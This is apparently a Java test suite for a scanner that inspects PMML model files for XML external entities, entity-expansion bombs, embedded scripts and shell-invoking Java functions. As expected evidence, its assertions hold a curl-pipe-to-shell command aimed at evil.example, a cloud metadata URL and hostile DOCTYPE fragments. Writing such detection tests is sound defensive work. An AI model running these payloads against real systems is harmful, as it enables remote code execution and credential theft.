package io.modelvet.formats.pmml;

import static io.modelvet.testutil.FindingAssert.only;
import static org.assertj.core.api.Assertions.assertThat;

import io.modelvet.report.FileResult;
import io.modelvet.report.Finding;
import io.modelvet.report.Severity;
import io.modelvet.report.Verdict;
import io.modelvet.testutil.FindingAssert;
import io.modelvet.testutil.HostileScan;
import io.modelvet.testutil.Scans;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

class PmmlScannerTest {
  private static final Path DIR = Path.of("src/test/resources/fixtures/formats2/pmml");

  @Test
  void benignDocumentWithReprExtensionIsClean() {
    FileResult r = Scans.file(DIR.resolve("benign.pmml"));
    assertThat(r.format()).isEqualTo("pmml");
    assertThat(r.verdict()).as(r.findings().toString()).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void externalEntityIsHigh() {
    Finding f = only(Scans.file(DIR.resolve("xxe.pmml")), "xml.external-entity", Severity.HIGH);
    assertThat(f.evidence()).contains("http://169.254.169.254/latest/meta-data/");
  }

  @Test
  void entityBombIsMediumNotACrash() {
    FileResult r = Scans.file(DIR.resolve("billion_laughs.pmml"));
    Finding f = only(r, "xml.entity-expansion", Severity.MEDIUM);
    assertThat(f.evidence()).startsWith("<!ENTITY lol2");
    assertThat(r.verdict()).isEqualTo(Verdict.FINDINGS);
  }

  @Test
  void scriptInExtensionIsMedium() {
    Finding f = only(Scans.file(DIR.resolve("script_extension.pmml")), "pmml.extension-script", Severity.MEDIUM);
    assertThat(f.evidence()).contains("os.system(\"curl http://evil.example/x | sh\")");
  }

  @Test
  void javaClassFunctionIsMedium() {
    Finding f = only(Scans.file(DIR.resolve("java_function.pmml")), "pmml.java-function", Severity.MEDIUM);
    assertThat(f.evidence()).isEqualTo("<Apply function=\"com.acme.udf.ShellFunction\">");
  }

  @Test
  void externalDtdIsHigh() {
    String doc = "<?xml version=\"1.0\"?><!DOCTYPE PMML SYSTEM \"http://evil.example/p.dtd\"><PMML version=\"4.4\"><Header/></PMML>";
    FileResult r = Scans.bytes("p.pmml", doc.getBytes(StandardCharsets.UTF_8));
    assertThat(r.format()).isEqualTo("pmml");
    assertThat(only(r, "xml.external-entity", Severity.HIGH).evidence()).contains("http://evil.example/p.dtd");
  }

  @Property(tries = 200)
  void hostileDoctypesNeverEscape(@ForAll("doctypes") String doctype) {
    String doc = "<?xml version=\"1.0\"?>" + doctype + "<PMML version=\"4.4\"><Header/>&a;&lol9;</PMML>";
    HostileScan.check("h.pmml", doc.getBytes(StandardCharsets.UTF_8));
  }

  @Provide
  Arbitrary<String> doctypes() {
    Arbitrary<String> piece = Arbitraries.of("<!DOCTYPE PMML [", "<!ENTITY a \"&b;&b;\">", "<!ENTITY % p SYSTEM \"file:///x\">", "%p;", "]>", "<!ENTITY b '", "\"", ">", "<!--", "-->", "&", "<![CDATA[", "]]>", "x");
    return piece.list().ofMaxSize(12).map(l -> String.join("", l));
  }

  @Test
  void mutatedBenignFileIsBounded() {
    byte[] b = FindingAssert.fixture("pmml/benign.pmml");
    for (int cut = 10; cut < b.length; cut += 97) HostileScan.check("c.pmml", java.util.Arrays.copyOf(b, cut));
  }
}
